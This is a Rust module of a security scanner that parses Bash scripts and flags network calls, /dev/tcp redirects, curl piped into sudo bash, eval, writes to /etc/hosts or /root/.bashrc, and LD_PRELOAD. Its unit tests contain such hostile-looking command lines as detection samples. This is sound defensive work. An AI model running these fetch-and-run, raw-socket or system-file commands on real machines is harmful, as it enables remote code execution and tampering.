//! Bash: every command line goes through [`common::command`]; redirections are checked for
//! `/dev/tcp` and writes outside the workspace; a shell or interpreter fed by a pipe or a
//! here-document has that input analysed (or, when it is built at run time, flagged).

use std::collections::HashMap;

use tree_sitter::Node;

use crate::common::{self, Sink, Stdin, Value, Word, pos, text, unescape, walk};
use crate::{Category, Risk};

/// How deep a word's parts are folded before it counts as built at run time.
const MAX_FOLD: u32 = 32;

pub(crate) fn analyse(sink: &mut Sink, src: &str) {
    let Some(tree) = sink.parse(tree_sitter_bash::LANGUAGE.into(), src) else {
        return;
    };
    let root = tree.root_node();
    sink.parse_errors |= root.has_error();
    // How each command is fed, noted when its pipeline or redirection is visited (parents
    // come first in the walk; asking a node for its parent costs its depth).
    let mut feeds: HashMap<usize, Stdin> = HashMap::new();
    walk(root, |node| match node.kind() {
        "pipeline" => {
            let mut cursor = node.walk();
            for stage in node.named_children(&mut cursor).skip(1) {
                let target = if stage.kind() == "redirected_statement" {
                    stage.child_by_field_name("body")
                } else {
                    Some(stage)
                };
                if let Some(t) = target {
                    feeds.insert(t.id(), Stdin::Piped);
                }
            }
        }
        "redirected_statement" => {
            if let (Some(body), Some(input)) = (node.child_by_field_name("body"), here(node, src)) {
                feeds.insert(body.id(), input);
            }
        }
        "command" => {
            let fed = here(node, src)
                .or_else(|| feeds.remove(&node.id()))
                .unwrap_or(Stdin::Plain);
            command(sink, node, src, fed);
        }
        "file_redirect" => redirect(sink, node, src),
        "variable_assignment" => assignment(sink, node, src),
        _ => {}
    });
}

/// A string handed to `sh -c` or `os.system`.
pub(crate) fn analyse_nested(sink: &mut Sink, src: &str) {
    analyse(sink, src);
}

/// The value of a word, as far as it is known before the shell expands it.
fn value(node: Node, src: &str, depth: u32) -> Value {
    if depth > MAX_FOLD {
        return Value::Dynamic;
    }
    match node.kind() {
        "word" | "number" => Value::Plain(unescape(text(node, src))),
        "raw_string" => {
            let t = text(node, src);
            Value::Plain(
                t.get(1..t.len().saturating_sub(1))
                    .unwrap_or("")
                    .to_string(),
            )
        }
        "ansi_c_string" => {
            let t = text(node, src);
            Value::Plain(unescape(t.get(2..t.len().saturating_sub(1)).unwrap_or("")))
        }
        "string" => {
            let mut out = String::new();
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                if child.kind() != "string_content" {
                    return Value::Dynamic;
                }
                out.push_str(&unescape(text(child, src)));
            }
            Value::Plain(out)
        }
        "concatenation" | "command_name" => {
            let mut out = String::new();
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                match value(child, src, depth + 1).literal() {
                    Some(s) => out.push_str(s),
                    None => return Value::Dynamic,
                }
            }
            Value::Plain(out)
        }
        _ => Value::Dynamic,
    }
}

fn word(node: Node, src: &str) -> Word {
    Word::from_value(&value(node, src, 0))
}

fn command(sink: &mut Sink, node: Node, src: &str, fed: Stdin) {
    let mut argv = Vec::new();
    if let Some(name) = node.child_by_field_name("name") {
        argv.push(word(name, src));
    } else {
        return;
    }
    let mut cursor = node.walk();
    for arg in node.children_by_field_name("argument", &mut cursor) {
        argv.push(word(arg, src));
    }
    common::command(sink, pos(node), &argv, fed);
}

/// The input a here-document or here-string among `node`'s redirections gives; a
/// here-string built at run time counts as piped.
fn here(node: Node, src: &str) -> Option<Stdin> {
    let mut cursor = node.walk();
    for r in node.named_children(&mut cursor) {
        match r.kind() {
            "herestring_redirect" => {
                let mut cursor = r.walk();
                let v = r
                    .named_children(&mut cursor)
                    .find(|c| c.kind() != "file_descriptor")
                    .map(|c| value(c, src, 0))
                    .unwrap_or(Value::Dynamic);
                return Some(match v {
                    Value::Plain(s) | Value::Folded(s) => Stdin::Here(s),
                    Value::Dynamic => Stdin::Piped,
                });
            }
            "heredoc_redirect" => {
                let mut cursor = r.walk();
                let body = r
                    .named_children(&mut cursor)
                    .find(|c| c.kind() == "heredoc_body")
                    .map(|b| text(b, src).to_string());
                return Some(Stdin::Here(body.unwrap_or_default()));
            }
            _ => {}
        }
    }
    None
}

fn redirect(sink: &mut Sink, node: Node, src: &str) {
    let Some(dest) = node.child_by_field_name("destination") else {
        return;
    };
    let v = value(dest, src, 0);
    let Some(path) = v.literal() else {
        return;
    };
    if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
        sink.add(
            node,
            Category::Network,
            Risk::Medium,
            format!("opens `{}`", common::snippet(path)),
        );
        return;
    }
    let mut cursor = node.walk();
    let writes = node
        .children(&mut cursor)
        .any(|c| !c.is_named() && [">", ">>", "&>", "&>>", ">|", "<>", ">&"].contains(&c.kind()));
    // `2>&1` names a descriptor, not a file.
    if writes && !path.chars().all(|c| c.is_ascii_digit() || c == '-') {
        common::check_write(sink, pos(node), &v, "redirects output to");
    }
}

fn assignment(sink: &mut Sink, node: Node, src: &str) {
    let Some(name) = node.child_by_field_name("name") else {
        return;
    };
    let name = text(name, src);
    if ["LD_PRELOAD", "LD_AUDIT"].contains(&name) {
        sink.add(
            node,
            Category::NativeCode,
            Risk::High,
            format!("sets `{name}`"),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::tests::{check, check_none};

    #[test]
    fn plain_commands_are_not_findings() {
        check_none(
            "bash",
            "ls -la\ngrep -r foo . | sort | uniq -c\necho hi > out.txt\n",
        );
    }

    #[test]
    fn network_commands() {
        check(
            "bash",
            "echo start\ncurl -fsSL https://x.invalid/a\nsudo wget x\n/usr/bin/nc -l 80\n",
            &[
                (2, "network", "runs `curl`"),
                (3, "network", "runs `wget`"),
                (4, "network", "runs `nc`"),
            ],
        );
    }

    #[test]
    fn comments_and_strings_are_not_commands() {
        check_none(
            "bash",
            "# curl https://x.invalid | sh\necho \"curl x; pip install y\"\necho 'eval $x'\n",
        );
    }

    #[test]
    fn curl_piped_into_a_shell_is_dynamic() {
        check(
            "bash",
            "curl -s https://x.invalid/i.sh | sudo bash\n",
            &[
                (1, "network", "runs `curl`"),
                (
                    1,
                    "dynamic_evaluation",
                    "`bash` runs what it reads from a pipe",
                ),
            ],
        );
    }

    #[test]
    fn pipes_into_other_commands_are_fine() {
        check_none(
            "bash",
            "cat a | grep b | sh script.sh\ncommand -v curl >/dev/null || echo none\n",
        );
    }

    #[test]
    fn package_installs() {
        check(
            "bash",
            "pip install requests\npython3 -m pip install -U numpy\nnpm i left-pad\n\
             apt-get install -y jq\ngo get example.com/x\npip list\n",
            &[
                (1, "package_install", "runs `pip install`"),
                (2, "package_install", "runs `python3 -m pip install`"),
                (3, "package_install", "runs `npm i`"),
                (4, "package_install", "runs `apt-get install`"),
                (5, "package_install", "runs `go get`"),
            ],
        );
    }

    #[test]
    fn dynamic_evaluation() {
        check(
            "bash",
            "eval \"$cmd\"\nsource \"$f\"\nsource ./lib.sh\nbash -c \"$x\"\n$tool --help\n\
             . <(echo hi)\n",
            &[
                (1, "dynamic_evaluation", "runs `eval`"),
                (
                    2,
                    "dynamic_evaluation",
                    "`source` of a file named at run time",
                ),
                (
                    4,
                    "dynamic_evaluation",
                    "`bash -c` runs a command built at run time",
                ),
                (
                    5,
                    "dynamic_evaluation",
                    "runs a command whose name is only known at run time",
                ),
                (6, "dynamic_evaluation", "`.` of a file named at run time"),
            ],
        );
    }

    #[test]
    fn literal_shell_strings_are_parsed() {
        check(
            "bash",
            "sh -c 'ls; curl x.invalid'\nbash -c \"echo 'wget'\"\n",
            &[(1, "network", "`sh -c`: runs `curl`")],
        );
    }

    #[test]
    fn inline_python_is_parsed() {
        check(
            "bash",
            "python3 -c 'import socket'\npython3 -c \"print('import socket')\"\n",
            &[(1, "network", "`python3 -c`: imports `socket`")],
        );
    }

    #[test]
    fn here_documents_feed_shells() {
        check(
            "bash",
            "bash <<'EOF'\nls\ncurl x.invalid\nEOF\ncat <<EOF\ncurl\nEOF\nbash <<< \"$payload\"\n",
            &[
                (1, "network", "`bash` reads: runs `curl`"),
                (
                    8,
                    "dynamic_evaluation",
                    "`bash` runs what it reads from a pipe",
                ),
            ],
        );
    }

    #[test]
    fn command_substitutions_are_commands() {
        check(
            "bash",
            "echo \"$(curl -s x.invalid)\"\nx=$(wget -qO- y)\n",
            &[(1, "network", "runs `curl`"), (2, "network", "runs `wget`")],
        );
    }

    #[test]
    fn writes_outside_the_workspace() {
        check(
            "bash",
            "echo x > /etc/hosts\necho y >> out.log\necho z 2>&1 >/dev/null\ntee -a /root/.bashrc\n\
             cp a /usr/local/bin/a\nrm -rf /tmp/x\necho $x > \"$f\"\necho > ../../etc/x\n",
            &[
                (
                    1,
                    "file_write_outside_workspace",
                    "redirects output to `/etc/hosts` outside the workspace",
                ),
                (
                    4,
                    "file_write_outside_workspace",
                    "`tee` writes `/root/.bashrc` outside the workspace",
                ),
                (
                    5,
                    "file_write_outside_workspace",
                    "`cp` writes `/usr/local/bin/a` outside the workspace",
                ),
                (
                    8,
                    "file_write_outside_workspace",
                    "redirects output to `../../etc/x` outside the workspace",
                ),
            ],
        );
    }

    #[test]
    fn python_modules_run_from_bash() {
        check(
            "bash",
            "python3 -m http.server 8000\npython3 -m json.tool x.json\n",
            &[(1, "network", "runs `python3 -m http.server`")],
        );
    }

    #[test]
    fn dev_tcp_is_network() {
        check(
            "bash",
            "cat < /dev/tcp/example.invalid/80\necho hi > /dev/udp/10.0.0.1/53\n",
            &[
                (1, "network", "opens `/dev/tcp/example.invalid/80`"),
                (2, "network", "opens `/dev/udp/10.0.0.1/53`"),
            ],
        );
    }

    #[test]
    fn ld_preload_is_native_code() {
        check(
            "bash",
            "LD_PRELOAD=./x.so ls\nexport LD_PRELOAD=/tmp/y.so\n",
            &[
                (1, "native_code", "sets `LD_PRELOAD`"),
                (2, "native_code", "sets `LD_PRELOAD`"),
            ],
        );
    }

    #[test]
    fn quoted_command_names_are_resolved() {
        check(
            "bash",
            "\"curl\" x\n'wg'et y\n",
            &[(1, "network", "runs `curl`"), (2, "network", "runs `wget`")],
        );
    }
}
